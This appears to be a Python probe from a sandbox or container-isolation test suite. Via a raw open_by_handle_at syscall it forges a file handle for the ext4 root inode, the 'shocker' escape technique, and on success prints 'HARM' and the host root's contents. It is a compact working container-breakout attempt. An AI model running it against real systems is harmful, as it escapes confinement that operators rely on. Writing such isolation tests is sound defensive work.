"""Opens the root of the workspace's file system by its handle (open_by_handle_at), as in `shocker`."""

import ctypes
import os
import platform
import struct


def f(world):
    libc = ctypes.CDLL(None, use_errno=True)
    here = os.open(world.root, os.O_RDONLY)
    handle = struct.pack("IiQ", 8, 1, 2)  # inode 2 is the root of an ext4
    number = {"x86_64": 304, "aarch64": 265}[platform.machine()]
    found = libc.syscall(number, here, ctypes.create_string_buffer(handle, 136), os.O_RDONLY)
    if found >= 0:
        print("HARM opened by handle:", os.listdir(found))
